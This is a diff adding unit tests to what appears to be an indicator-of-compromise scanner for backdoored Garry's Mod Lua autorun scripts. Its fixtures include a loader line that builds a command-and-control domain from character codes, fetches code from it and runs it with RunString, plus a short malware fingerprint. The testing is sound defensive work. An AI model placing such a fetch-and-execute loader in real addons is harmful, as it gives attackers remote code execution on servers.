@@ -11,6 +11,33 @@ describe('ioc_match', () => {
     expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
     for (const f of findings) expect(f.line).toBeGreaterThanOrEqual(0);
   });
+  it('short family fingerprint, as written', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': 'local gblk = {}\nRunString(gblk[1])',
+    });
+    expect(findings.map((f) => f.line)).toEqual([1, 2]);
+    expect(findings[0]!.pattern).toContain('gblk');
+  });
+  it('the fingerprint in another case', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': 'local GBLK = {}\nprint(GBLK[1])',
+    });
+    expect(findings).toEqual([]);
+  });
+  it('C2 domain decoded at run time', () => {
+    const host = [...'KVAC.cz'].map((c) => c.charCodeAt(0)).join(', ');
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': `http.Fetch("https://" .. string.char(${host}) .. "/x", RunString)`,
+    });
+    expect(findings.map((f) => f.pattern)).toContain('encoded IOC kvac.cz');
+  });
+  it('decoded text without an indicator', () => {
+    const host = [...'example.invalid'].map((c) => c.charCodeAt(0)).join(', ');
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': `http.Fetch("https://" .. string.char(${host}) .. "/x", print)`,
+    });
+    expect(findings).toEqual([]);
+  });
   it('unrelated domain', () => {
     const findings = check(rule, {
       'lua/autorun/server/sv_x.lua': 'http.Fetch("https://example.invalid/v.txt", print)',
